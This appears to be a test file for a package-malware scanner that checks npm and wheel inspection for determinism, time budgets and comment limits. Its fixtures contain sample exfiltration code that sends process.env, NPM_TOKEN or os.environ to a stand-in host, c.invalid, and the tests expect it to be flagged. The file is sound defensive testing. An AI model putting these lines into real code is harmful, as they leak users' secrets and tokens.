import { fileURLToPath } from 'node:url'
import { execFileSync } from 'node:child_process'
import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { readAsOf } from '../../src/model/artifact.ts'
import { LIMITS } from '../../src/analysis/limits.ts'
import { sha256 } from '../../src/model/digest.ts'
import type { ContentFacts } from '../../src/model/fact.ts'
import { readingOf } from './python-reading.ts'
import { sampleArtifact } from './sample-artifact.ts'

type Files = Readonly<Record<string, string>>

const KINDS = { npm: 'npm-tarball', pypi: 'wheel' } as const

function inspected(ecosystem: keyof typeof KINDS, files: Files): Promise<ContentFacts> {
  const artifact = sampleArtifact(KINDS[ecosystem])
  return inspect(readingOf(artifact.kind, files), { digest: sha256('x'), readAs: readAsOf(artifact) })
}

const comparable = (facts: ContentFacts): unknown => JSON.parse(JSON.stringify({ ...facts, tookMs: 0 }))

/** The facts as a process measures them that has measured nothing before. */
function inColdProcess(ecosystem: keyof typeof KINDS, files: Files): unknown {
  const script = fileURLToPath(new URL('inspect-once.ts', import.meta.url))
  const input = JSON.stringify({ artifact: sampleArtifact(KINDS[ecosystem]), files })
  const output = execFileSync(process.execPath, [script], { input, encoding: 'utf8', maxBuffer: 64_000_000 })
  return { ...JSON.parse(output), tookMs: 0 }
}

/** Statements that take many evaluation steps, by `name`. */
function costly(name: string, statements: number): string {
  const lines = Array.from(
    { length: statements },
    (_, index) =>
      `exports.f${index} = (x) => fetch('https://c.invalid/' + exports.f${(index * 7) % statements}(x + '${name}'))`,
  )
  return lines.join('\n')
}

function costlyPackage(count: number): Files {
  const files: Record<string, string> = {
    'package.json': JSON.stringify({ name: 'sample', main: 'index.js' }),
    'index.js': `require('./zz-late')\nfetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(process.env) })`,
    'zz-late.js': `fetch('https://c.invalid/' + process.env.NPM_TOKEN)`,
    'zz-small.js': `exports.f = () => fetch('https://c.invalid/', { body: JSON.stringify(process.env) })`,
  }
  for (let index = 0; index < count; index += 1) files[`lib/a${index}.js`] = costly(`a${index}`, 200)
  return files
}

function costlyWheel(count: number): Files {
  const files: Record<string, string> = {
    'sample-1.0.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n',
    'sample/__init__.py': 'from . import zz\n',
    'sample/zz.py': 'import os, requests\nrequests.post("https://c.invalid/", json=dict(os.environ))\n',
  }
  for (let index = 0; index < count; index += 1) {
    const body = `def f(a):\n    requests.post("https://c.invalid/", json=dict(os.environ), a=${'a+'.repeat(300)}a)\n`
    files[`sample/a${index}.py`] = `import os, requests\n${body.repeat(40)}`
  }
  return files
}

const PACKAGES = [
  { name: 'an npm package over the budget', ecosystem: 'npm', files: costlyPackage(40) },
  { name: 'an npm package within the budget', ecosystem: 'npm', files: costlyPackage(3) },
  { name: 'a wheel over the budget', ecosystem: 'pypi', files: costlyWheel(250) },
] as const

t.test('the same bytes give the same facts, whatever the process did before', async (t) => {
  for (const { name, ecosystem, files } of PACKAGES) {
    const first = comparable(await inspected(ecosystem, files))
    const warm = comparable(await inspected(ecosystem, files))
    t.same(warm, first, name)
    t.same(inColdProcess(ecosystem, files), warm, `${name}, in another process`)
    const turned = Object.fromEntries(Object.entries(files).toReversed())
    const { files: _, ...other } = await inspected(ecosystem, turned)
    const { files: __, ...ordered } = await inspected(ecosystem, files)
    t.same(
      comparable({ ...other, files: [] }),
      comparable({ ...ordered, files: [] }),
      `${name}, packed in another order`,
    )
  }
})

t.test(
  'costly files end within the budget, are named, and push out neither the surface nor what is smaller',
  async (t) => {
    for (const { ecosystem, count, files, small } of [
      { ecosystem: 'npm', count: 70, files: costlyPackage(70), small: ['index.js', 'zz-late.js', 'zz-small.js'] },
      { ecosystem: 'pypi', count: 300, files: costlyWheel(300), small: ['sample/__init__.py', 'sample/zz.py'] },
    ] as const) {
      const { notExamined, findings } = await inspected(ecosystem, files)
      const left = notExamined.filter(({ reason }) => reason.includes('budget'))
      t.ok(left.length > 5, `${ecosystem}: ${left.length} files are named`)
      t.ok(left.length < count, `${ecosystem}: and others were examined`)
      t.notOk(
        left.some(({ path }) => (small as readonly string[]).includes(path)),
        'what is likeliest was examined',
      )
      t.ok(findings.some(({ check }) => check === 'secrets-exfiltration'))
    }
  },
)

t.test('remarks do not count as code, up to a limit, and cost little to count', async (t) => {
  const main = { 'package.json': JSON.stringify({ name: 'sample', main: 'index.js' }) }
  const sends = `fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(process.env) })\n`
  const found = async (text: string): Promise<readonly string[]> =>
    (await inspected('npm', { ...main, 'index.js': text })).findings.map(({ check }) => check)
  const code = `x('${'y'.repeat(90)}')\n`
  const most = code.repeat(Math.floor((LIMITS.otherFileBytes - sends.length) / code.length))
  for (const remark of ['// ', '/* */ ', `/*${'z'.repeat(1000)}*/\n`])
    t.ok((await found(`${remark.repeat(2000)}\n${sends}`)).includes('secrets-exfiltration'), remark.slice(0, 6))
  t.ok(
    (await found(`/*${'z'.repeat(LIMITS.remarkBytes - 4)}*/${sends}`)).includes('secrets-exfiltration'),
    'at the limit',
  )
  t.same(await found(most + code.repeat(2) + sends), ['not-examined'], 'code beyond the limit is told')
  t.same(await found(`/*${'z'.repeat(LIMITS.remarkBytes)}*/${most}${code.repeat(2)}`), ['not-examined'], 'and remarks')
  const start = performance.now()
  await found('/*'.repeat(1_400_000))
  t.ok(performance.now() - start < 20_000, 'remarks that do not end')
})
